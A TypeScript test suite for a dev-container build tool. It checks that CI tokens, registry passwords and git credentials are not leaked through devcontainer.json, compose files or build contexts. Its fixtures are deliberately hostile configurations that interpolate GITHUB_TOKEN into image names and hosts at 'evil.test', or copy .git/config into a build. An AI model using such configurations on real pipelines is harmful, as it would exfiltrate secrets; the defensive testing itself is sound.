import { Buffer } from "node:buffer";
import { rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { inspect } from "node:util";
import { afterAll, describe, expect, test } from "vitest";
import { openFiles } from "../../src/host/files.ts";
import type { Sources } from "../../src/plan/plan.ts";
import { makeCheckout } from "../checkout.ts";
import { refusalOf } from "../devcontainer/refusal.ts";
import { hostOf, inputsOf, readFrom } from "../plan-of.ts";

const { files, removeTemporaryFolders } = openFiles(tmpdir());
const folders: string[] = [];
afterAll(() => {
  removeTemporaryFolders();
  for (const folder of folders) rmSync(folder, { recursive: true });
});

const CANARY = "canary-5f0e2b";
/** A variable that is a token by its name, one that holds it encoded, and one that is an input's. */
const TOKENS = {
  GITHUB_TOKEN: CANARY,
  HEADER: `basic ${Buffer.from(`x:${CANARY}`).toString("base64")}`,
  PASSWORD: "pass-91c3d7aa",
};

type Checkout = Readonly<Record<string, string>>;
type Told = { readonly sources: Sources; readonly warnings: readonly string[] };

type More = {
  readonly inputs?: Readonly<Record<string, string>>;
  readonly env?: Readonly<Record<string, string>>;
  readonly isFork?: boolean;
};

async function read(checkout: Checkout, { inputs = {}, env = TOKENS, isFork = false }: More = {}): Promise<Told> {
  const workspace = makeCheckout({ ".devcontainer/Dockerfile": "FROM base.test/os:1\nARG A\n", ...checkout });
  folders.push(workspace);
  const login = { "registry-username": "ada", "registry-password": TOKENS.PASSWORD };
  const host = hostOf(workspace, env);
  const sources = await readFrom(inputsOf({ workspace, images: {}, inputs: { ...login, ...inputs } }), {
    files,
    host: { ...host, event: { ...host.event, isFork } },
  });
  const warnings = sources.warnings.map(({ text, at }) => `${at?.file}:${at?.line}: ${text}`);
  return { sources, warnings };
}

/** What of the run's secrets stands anywhere in what was read. */
const leaks = ({ sources }: Told): readonly string[] => {
  const all = inspect(sources, { depth: Number.POSITIVE_INFINITY, maxArrayLength: null, maxStringLength: null });
  return Object.values(TOKENS).filter((secret) => all.includes(secret));
};

const json = (value: object): Checkout => ({ ".devcontainer/devcontainer.json": JSON.stringify(value, undefined, 1) });
const built = (build: object, more: object = {}): Checkout =>
  json({ build: { dockerfile: "Dockerfile", ...build }, ...more });
const options = (...list: readonly string[]): Checkout => built({ options: list });
const compose = (text: string, more: Checkout = {}): Checkout => ({
  ...json({ dockerComposeFile: "compose.yml", service: "app" }),
  ".devcontainer/compose.yml": text,
  ...more,
});
const V = (name: keyof typeof TOKENS) => `\${localEnv:${name}:x}`;
const CONFIG = ".devcontainer/devcontainer.json";
const COMPOSE = ".devcontainer/compose.yml";

describe("a token does not leave through the configuration, and where it is asked for is told", () => {
  test.each<[place: string, Checkout, at: string, inputs?: Readonly<Record<string, string>>]>([
    ["image", json({ image: `evil.test/os:${V("GITHUB_TOKEN")}` }), `${CONFIG}:2`],
    ["env instead of localEnv", json({ image: "evil.test/os:${env:GITHUB_TOKEN:x}" }), `${CONFIG}:2`],
    ["image, a password of the inputs", json({ image: `evil.test/${V("PASSWORD")}:1` }), `${CONFIG}:2`],
    ["build.args", built({ args: { A: V("GITHUB_TOKEN") } }), `${CONFIG}:5`],
    ["build.args, encoded", built({ args: { A: V("HEADER") } }), `${CONFIG}:5`],
    ["build.args, a password of the inputs", built({ args: { A: `a${V("PASSWORD")}` } }), `${CONFIG}:5`],
    ["build.cacheFrom", built({ cacheFrom: `evil.test/c:${V("GITHUB_TOKEN")}` }), `${CONFIG}:4`],
    ["a label", options(`--label=a=${V("GITHUB_TOKEN")}`), `${CONFIG}:5`],
    ["an add-host", options(`--add-host=${V("GITHUB_TOKEN")}.evil.test:10.0.0.1`), `${CONFIG}:5`],
    ["an option's build arg", options(`--build-arg=A=${V("GITHUB_TOKEN")}`), `${CONFIG}:5`],
    ["an option's build arg by its name", options("--build-arg=GITHUB_TOKEN"), `${CONFIG}:5`],
    ["an option's cache", options(`--cache-from=evil.test/c:${V("HEADER")}`), `${CONFIG}:5`],
    [
      "an option's context",
      options(`--build-context=c=docker-image://evil.test/${V("GITHUB_TOKEN")}:1`),
      `${CONFIG}:5`,
    ],
    ["an option nobody knows", options(`--unknown=${V("GITHUB_TOKEN")}`), `${CONFIG}:5`],
    ["a secret of the options", options("--secret=id=t,env=GITHUB_TOKEN"), `${CONFIG}:5`],
    ["a secret of the options by its name", options("--secret=id=GITHUB_TOKEN"), `${CONFIG}:5`],
    ["a secret of the options, another variable", options("--secret=id=t,env=HEADER"), `${CONFIG}:5`],
    [
      "a secret of the options, a file of git",
      { ...options("--secret=id=t,src=.git/config"), ".git/config": "[core]\n" },
      `${CONFIG}:5`,
    ],
    [
      "a secret of the options, a file with a token",
      { ...options("--secret=id=t,src=npmrc"), npmrc: `_authToken=${CANARY}\n` },
      `${CONFIG}:5`,
    ],
    [
      "a feature's id",
      json({
        image: "a.test/b:1",
        features: { "./f": {} },
        overrideFeatureInstallOrder: [`evil.test/${V("GITHUB_TOKEN")}`],
      }),
      `${CONFIG}:7`,
    ],
    [
      "a feature's option",
      json({ image: "a.test/b:1", features: { "evil.test/f:1": { v: V("GITHUB_TOKEN") } } }),
      `${CONFIG}:5`,
    ],
    ["containerEnv", json({ image: "a.test/b:1", containerEnv: { T: V("GITHUB_TOKEN") } }), `${CONFIG}:4`],
    ["remoteEnv", json({ image: "a.test/b:1", remoteEnv: { T: V("GITHUB_TOKEN") } }), `${CONFIG}:4`],
    ["remoteUser", json({ image: "a.test/b:1", remoteUser: V("GITHUB_TOKEN") }), `${CONFIG}:3`],
    ["a mount", json({ image: "a.test/b:1", mounts: [`source=${V("GITHUB_TOKEN")},target=/x`] }), `${CONFIG}:4`],
    ["customizations", json({ image: "a.test/b:1", customizations: { x: V("GITHUB_TOKEN") } }), `${CONFIG}:4`],
    ["a compose image", compose("services:\n  app:\n    image: evil.test/os:${GITHUB_TOKEN:-x}\n"), `${COMPOSE}:3`],
    [
      "a compose arg",
      compose("services:\n  app:\n    build:\n      args:\n        A: $GITHUB_TOKEN\n"),
      `${COMPOSE}:5`,
    ],
    [
      "a compose arg, encoded",
      compose("services:\n  app:\n    build:\n      args:\n        A: a${HEADER-}b\n"),
      `${COMPOSE}:5`,
    ],
    [
      "a compose arg by its name",
      compose("services:\n  app:\n    build:\n      args: [GITHUB_TOKEN]\n"),
      `${COMPOSE}:4`,
    ],
    ["a compose label", compose("services:\n  app:\n    build:\n      labels: ['a=${PASSWORD}']\n"), `${COMPOSE}:4`],
    [
      "a compose host",
      compose("services:\n  app:\n    build:\n      extra_hosts: ['${GITHUB_TOKEN}.evil.test=10.0.0.1']\n"),
      `${COMPOSE}:4`,
    ],
    [
      "a compose cache",
      compose("services:\n  app:\n    build:\n      cache_from: ['evil.test/c:${GITHUB_TOKEN}']\n"),
      `${COMPOSE}:4`,
    ],
    [
      "a Dockerfile in a compose file",
      compose(
        "services:\n  app:\n    build:\n      dockerfile_inline: |\n        FROM evil.test/os:a${GITHUB_TOKEN}\n",
      ),
      `${COMPOSE}:4`,
    ],
    [
      "a compose context",
      compose(
        "services:\n  app:\n    build:\n      additional_contexts: ['c=docker-image://evil.test/a${GITHUB_TOKEN}:1']\n",
      ),
      `${COMPOSE}:4`,
    ],
    [
      "a compose secret",
      compose("services:\n  app:\n    build:\n      secrets: [t]\nsecrets:\n  t: { environment: GITHUB_TOKEN }\n"),
      `${COMPOSE}:4`,
    ],
    [
      "a compose file, through .env",
      compose("services:\n  app:\n    image: evil.test/os:a${T}\n", { ".devcontainer/.env": "T=${GITHUB_TOKEN}\n" }),
      `${COMPOSE}:3`,
    ],
    [
      "a compose file, through a name in .env",
      compose("services:\n  app:\n    image: evil.test/os:a${GITHUB_TOKEN}\n", {
        ".devcontainer/.env": "GITHUB_TOKEN\n",
      }),
      `${COMPOSE}:3`,
    ],
    [
      "a file of build args, by its name",
      {
        ...built({}),
        ".devcontainer/Dockerfile": "FROM base.test/os:1\nARG GITHUB_TOKEN\n",
        "args.conf": "B=1\nGITHUB_TOKEN\n",
      },
      "args.conf:2",
      { "build-arg-files": "args.conf" },
    ],
  ])("%s", async (_, checkout, at, inputs = {}) => {
    const told = await read({ ...LOCAL_FEATURE, ...checkout }, { inputs });
    expect(leaks(told)).toEqual([]);
    const [warning = "", ...others] = told.warnings.filter((text) => /withheld/.test(text));
    expect(others).toEqual([]);
    expect(warning.slice(0, at.length + 1)).toBe(`${at}:`);
    expect(warning).toMatch(/is withheld.*input build-secrets/);
  });
});

const LOCAL_FEATURE = {
  ".devcontainer/f/devcontainer-feature.json": '{ "id": "f" }',
  ".devcontainer/f/install.sh": "echo\n",
};

/** A folder with docker's configuration. */
function dockerFolder(auths: object): string {
  const folder = makeCheckout({ "config.json": JSON.stringify({ auths }) });
  folders.push(folder);
  return folder;
}

const PLAIN = { NODE_VERSION: "22", OTHER: "o7her" };
const BOTH = built({ args: { A: "${localEnv:NODE_VERSION:none}-${localEnv:OTHER:none}" } });
const args = ({ sources }: Told) => sources.build.arguments.args;

describe("what the configuration may read", () => {
  test.each<[string, More, value: string, warnings: readonly RegExp[]]>([
    ["everything, without the input", { env: PLAIN }, "22-o7her", []],
    [
      "what the input names",
      { env: PLAIN, inputs: { "local-env": "OTHER" } },
      "none-o7her",
      [/NODE_VERSION, which the input local-env does not name/],
    ],
    [
      "what fits a pattern of the input",
      { env: PLAIN, inputs: { "local-env": "NODE_*\nX" } },
      "22-none",
      [/OTHER, which the input/],
    ],
    [
      "nothing, where the input is false",
      { env: PLAIN, inputs: { "local-env": "false" } },
      "none-none",
      [/NODE_VERSION/, /OTHER/],
    ],
    [
      "nothing, in a fork's run",
      { env: PLAIN, isFork: true },
      "none-none",
      [/NODE_VERSION, and this run counts as a fork's.*another one than that of a push.*local-env/, /OTHER/],
    ],
    [
      "what the input names, in a fork's run",
      { env: PLAIN, isFork: true, inputs: { "local-env": "NODE_*" } },
      "22-none",
      [/OTHER/],
    ],
    [
      "no token, though the input names it",
      { env: { ...PLAIN, OTHER: CANARY, GITHUB_TOKEN: CANARY }, inputs: { "local-env": "*" } },
      "22-none",
      [/OTHER, which is a token or holds a secret/],
    ],
    ["nothing that is not set: that is no withholding", { env: {}, isFork: true }, "none-none", []],
  ])("%s", async (_, more, value, wanted) => {
    const told = await read(BOTH, more);
    expect(args(told)).toEqual({ A: value });
    expect(told.warnings.filter((text) => /withheld/.test(text))).toEqual(
      wanted.map((words) => expect.stringMatching(words)),
    );
  });

  test.each<[string, (auths: object) => More]>([
    [
      "of this machine, as docker/login-action writes them",
      (auths) => ({ env: { DOCKER_CONFIG: dockerFolder(auths) } }),
    ],
    ["of docker-config-base64", (auths) => ({ inputs: { "docker-config-base64": btoa(JSON.stringify({ auths })) } })],
  ])("no password of docker's logins: %s", async (_, more) => {
    const [pass, token] = ["hub-pass-0b1c2d", "identity-3e4f5a"];
    const { env = {}, ...rest } = more({ "a.test": { auth: btoa(`ada:${pass}`) }, "b.test": { identitytoken: token } });
    const told = await read(BOTH, { ...rest, env: { ...env, NODE_VERSION: pass, OTHER: `x${token}` } });
    expect(args(told)).toEqual({ A: "none-none" });
  });

  test("a fork's compose project is the one that the workflow names", async () => {
    const checkout = {
      ...json({ dockerComposeFile: [], service: "app" }),
      "other.yml": "services:\n  app:\n    image: a.test/b:${NODE_VERSION:-none}\n",
    };
    const { sources } = await read(checkout, { env: { ...PLAIN, COMPOSE_FILE: "other.yml" }, isFork: true });
    expect(sources.build.definition.source).toMatchObject({ image: { value: "a.test/b:none" } });
  });

  test("what the workflow itself hands to the build stays: an input's args and secrets", async () => {
    const inputs = { "build-args": "A=x\nB", "build-secrets": "t=GITHUB_TOKEN", "local-env": "false" };
    const dockerfile = { ".devcontainer/Dockerfile": "FROM base.test/os:1\nARG A\nARG B\n" };
    const { sources } = await read({ ...built({}), ...dockerfile }, { env: { ...TOKENS, B: "bee" }, inputs });
    expect(sources.build.arguments).toMatchObject({
      args: { A: "x", B: "bee" },
      secretOptions: ["--secret", "id=t,env=GITHUB_TOKEN"],
      withoutSecrets: undefined,
    });
  });
});

describe("git's own login, which actions/checkout leaves in .git/config", () => {
  const CHECKOUT = `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${btoa("x-access-token:ghs_abc")}\n`;
  const takes = (dockerfile: string, more: Checkout = {}): Checkout => ({
    ...built({ context: ".." }),
    ".devcontainer/Dockerfile": dockerfile,
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/config": CHECKOUT,
    a: "a",
    ...more,
  });
  test.each<[string, Checkout]>([
    ["all of the context", takes("FROM base.test/os:1\nCOPY . /app\n")],
    ["git's folder", takes("FROM base.test/os:1\nCOPY .git /app/.git\n")],
    ["a mount", takes("FROM base.test/os:1\nRUN --mount=target=/app cat /app/.git/config\n")],
    [
      "a named context",
      { ...takes("FROM base.test/os:1\nCOPY --from=g . /\n"), ...built({ options: ["--build-context=g=."] }) },
    ],
    [
      "a submodule's",
      takes("FROM base.test/os:1\nCOPY . /app\n", { ".git/config": "", ".git/modules/x/config": CHECKOUT }),
    ],
    [
      "an address with a password",
      takes("FROM base.test/os:1\nCOPY . /app\n", { ".git/config": "url = https://x:y@git.test/a\n" }),
    ],
    [
      "git's folder as the context",
      { ...takes("FROM base.test/os:1\nCOPY . /app\n"), ...built({ context: "../.git" }) },
    ],
    [
      "git's folder as a named context",
      {
        ...takes("FROM base.test/os:1\nCOPY --from=g config /\n"),
        ...built({ options: ["--build-context=g=.git"] }),
      },
    ],
    [
      "a submodule's folder as the context",
      {
        ...takes("FROM base.test/os:1\nCOPY config /app/\n", { ".git/config": "", ".git/modules/x/config": CHECKOUT }),
        ...built({ context: "../.git/modules/x" }),
      },
    ],
    ["a secret of the run", takes("FROM base.test/os:1\nCOPY . /app\n", { ".git/config": `token = ${CANARY}\n` })],
  ])("is not taken into a build: %s", async (_, checkout) => {
    expect(await refusalOf(() => read(checkout))).toMatchObject({
      code: "E_CONTEXT",
      message: expect.stringMatching(/\.git\/.*config.* holds a login to git/),
      fix: expect.stringMatching(/\.dockerignore.*persist-credentials: false/),
    });
  });

  test.each<[string, Checkout]>([
    ["ignored", takes("FROM base.test/os:1\nCOPY . /app\n", { ".dockerignore": ".git\n" })],
    ["not taken", takes("FROM base.test/os:1\nCOPY a /app\n")],
    ["without a login", takes("FROM base.test/os:1\nCOPY . /app\n", { ".git/config": "url = https://git.test/a\n" })],
  ])("is of no matter where it is %s", async (_, checkout) => {
    expect((await read(checkout)).sources.wanted.sourceKey).toMatch(/^sha256:/);
  });
});

describe("a known secret as a build arg is refused, however short", () => {
  test.each<[string, More]>([
    ["a password", { inputs: { "registry-username": "u", "registry-password": "abc1" } }],
    ["a token", { env: { GITHUB_TOKEN: "abc1" } }],
    ["a secret of the build", { inputs: { "build-secrets": "id=n,env=NN" }, env: { NN: "abc1" } }],
  ])("%s", async (_, { inputs = {}, env = {} }) => {
    const asked = { inputs: { ...inputs, "build-args": "A=abc1" }, env };
    const refused = await refusalOf(() => read(BOTH, asked));
    expect(refused).toMatchObject({ code: "E_INPUT", message: expect.stringMatching(/build arg A .*holds a secret/) });
    // A part of another text is chance.
    await read(BOTH, { ...asked, inputs: { ...inputs, "build-args": "A=abc12" } });
  });
});

describe("secrets and agents that the configuration names", () => {
  const NAMED = {
    ...options("--secret=id=t,env=NPM", "--secret=id=f,src=file", "--ssh=default=key"),
    file: "x",
    key: "k",
  };
  const NPM = { NPM: "npm-0a1b2c3d" };
  test("the repository's own code gets what is no token", async () => {
    const { sources, warnings } = await read(NAMED, { env: NPM });
    expect(sources.build.arguments.secretOptions).toEqual([
      ...["--secret", "id=t,env=NPM"],
      ...["--secret", expect.stringMatching(/^id=f,src=.*\/file$/)],
      ...["--ssh", expect.stringMatching(/^default=.*\/key$/)],
    ]);
    expect(warnings.filter((text) => /secret|ssh/.test(text))).toEqual([]);
  });

  test("a fork's gets none, under the same key", async () => {
    const own = await read(NAMED, { env: NPM });
    const { sources, warnings } = await read(NAMED, { env: NPM, isFork: true });
    expect(sources.build.arguments).toMatchObject({ secretOptions: [], secretValues: [], withoutSecrets: undefined });
    expect(warnings).toEqual(
      ["the secret t", "the secret f", "the ssh id default"].map((what) =>
        expect.stringMatching(
          new RegExp(`^${CONFIG}:\\d: The configuration names ${what}: this run counts as a fork's`),
        ),
      ),
    );
    expect(sources.wanted.sourceKey).toBe(own.sources.wanted.sourceKey);
  });

  test("a stranger's code gets none that an input names either, unless local-env names its variable", async () => {
    const inputs = { "build-secrets": "t=NPM\nid=f,src=key", ssh: "default=key" };
    const checkout = { ...built({}), key: "k" };
    const fork = await read(checkout, { env: NPM, inputs, isFork: true });
    expect(fork.sources.build.arguments).toMatchObject({
      secretOptions: [],
      secretValues: [],
      withoutSecrets: {
        code: "E_INPUT",
        message: expect.stringMatching(/build-secrets names t, and this run counts as a fork's/),
      },
    });
    const only = { "build-secrets": "t=NPM", "local-env": "NPM" };
    const named = await read(built({ args: { A: "${localEnv:NPM:none}" } }), { env: NPM, inputs: only, isFork: true });
    expect(named.sources.build.arguments).toMatchObject({
      args: { A: "none" },
      secretOptions: ["--secret", "id=t,env=NPM"],
      withoutSecrets: undefined,
    });
    const own = await read(checkout, { env: NPM, inputs });
    expect(own.sources.wanted.sourceKey).toBe(fork.sources.wanted.sourceKey);
  });

  test("without one that is withheld nothing is built; an input of the same id is the way out", async () => {
    const checkout = options("--secret=id=t,env=GITHUB_TOKEN");
    const withheld = await read(checkout);
    expect(withheld.sources.build.arguments.withoutSecrets).toMatchObject({
      code: "E_CONFIG",
      message: expect.stringMatching(/the secret t from GITHUB_TOKEN, which is a token/),
      at: { file: CONFIG, line: 5 },
    });
    const given = await read(checkout, { inputs: { "build-secrets": "t=GITHUB_TOKEN" } });
    expect(given.sources.build.arguments).toMatchObject({
      secretOptions: ["--secret", "id=t,env=GITHUB_TOKEN"],
      withoutSecrets: undefined,
    });
    expect(given.sources.wanted.sourceKey).toBe(withheld.sources.wanted.sourceKey);
  });
});
